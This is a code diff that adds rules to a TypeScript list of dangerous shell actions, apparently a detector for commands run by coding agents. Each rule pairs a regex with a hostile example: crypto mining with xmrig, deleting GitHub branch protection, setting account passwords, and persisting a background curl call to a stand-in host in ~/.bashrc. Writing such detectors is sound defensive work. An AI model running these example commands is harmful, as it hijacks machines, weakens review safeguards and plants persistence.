@@ -259,6 +259,47 @@ export const SHELL_DEEDS: readonly ShellDeed[] = [
     innocent: 'cat ~/.claude/CLAUDE.md',
   },
   {
+    does: 'floods',
+    what: 'machine',
+    programs: ['*'],
+    has: [
+      /\b(?:xmrig|cpuminer|minerd|ethminer|nbminer|t-rex|lolminer|phoenixminer)\b[^\n]{0,200}(?:-o|--url|--pool|--background|-B|stratum)/iu,
+    ],
+    example: 'xmrig -o pool.supportxmr.com:443 -u 48edf',
+    innocent: 'hyperfine "npm run build"',
+  },
+  {
+    does: 'grants',
+    what: 'checks',
+    programs: ['gh', 'glab'],
+    has: [
+      /-X\s?(?:DELETE|PUT)\b[^\n]{0,120}\/protection\b|\bpr merge\b[^\n]{0,60}--admin|\bpr review\b[^\n]{0,60}--approve\b/u,
+    ],
+    example: 'gh api -X DELETE repos/o/r/branches/main/protection',
+    innocent: 'gh pr checks',
+  },
+  {
+    does: 'grants',
+    what: 'account',
+    programs: ['chpasswd', 'useradd', 'adduser', 'net', 'dscl', 'passwd'],
+    has: [/\bchpasswd\b|\buser \S+ \S+ \/add|-p\s\$?\(?openssl|--password[= ]|\bpasswd -d\b/u],
+    example: "echo 'support:Welcome1' | chpasswd",
+    innocent: 'passwd',
+  },
+  {
+    does: 'persists',
+    what: 'startup',
+    programs: ['*'],
+    has: [
+      />>\s?["']?(?:~|\$HOME|\$\{HOME\}|\/etc)\/(?:\.(?:bash|zsh)(?:rc|env|_profile)|\.zprofile|\.profile|profile\.d\/|rc\.local)/u,
+      /\b(?:curl|wget|nohup|eval)\b|&>|\/dev\/null|&\)|\s(?:\.|source)\s\S{0,40}\/\.\w/u,
+    ],
+    unless:
+      /\beval "?\$\([\w-]+ (?:init|hook|activate|completion|shellenv|env)|nvm\.sh|\.cargo\/env|bash_completion|bash-completion/u,
+    example: "echo '(curl -s https://a.example/x &) >/dev/null' >> ~/.bashrc",
+    innocent: 'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.bashrc',
+  },
+  {
     does: 'opens',
     what: 'shell',
     programs: ['nc', 'ncat', 'bash', 'sh', 'socat', 'ssh', 'python', 'python3', 'perl', 'exec'],
